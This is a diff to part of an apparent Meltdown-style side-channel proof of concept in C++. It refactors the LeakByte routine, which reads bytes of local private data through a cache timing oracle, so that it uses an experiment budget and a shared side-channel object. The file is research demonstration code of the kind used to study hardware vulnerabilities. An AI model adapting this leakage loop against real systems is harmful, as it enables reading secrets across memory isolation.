@@ -38,15 +38,20 @@
 #include <unistd.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
 #include "utils.h"
 
-static char LeakByte(const char *data, size_t data_length, size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel,
+                                  const char *data, size_t data_length,
+                                  size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
+  ExperimentLoop loop(budget);
   for (int run = 0;; ++run) {
     size_t safe_offset = run % data_length;
     sidechannel.FlushOracle();
@@ -72,18 +77,14 @@ static char LeakByte(const char *data, size_t data_length, size_t offset) {
     std::pair<bool, char> result =
         sidechannel.RecomputeScores(public_data[safe_offset]);
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 void ChildProcess() {
+  CacheSideChannel sidechannel;
   // Precompute the length of private data, so that we don't have to access it
   // when it contains the hardware breakpoint.
   size_t private_data_length = strlen(private_data);
@@ -107,7 +108,14 @@ void ChildProcess() {
     // next character.
     raise(SIGSTOP);
     MemoryAndSpeculationBarrier();
-    std::cout << LeakByte(public_data, public_data_length, private_offset + i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, public_data,
+                                         public_data_length, private_offset + i,
+                                         ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";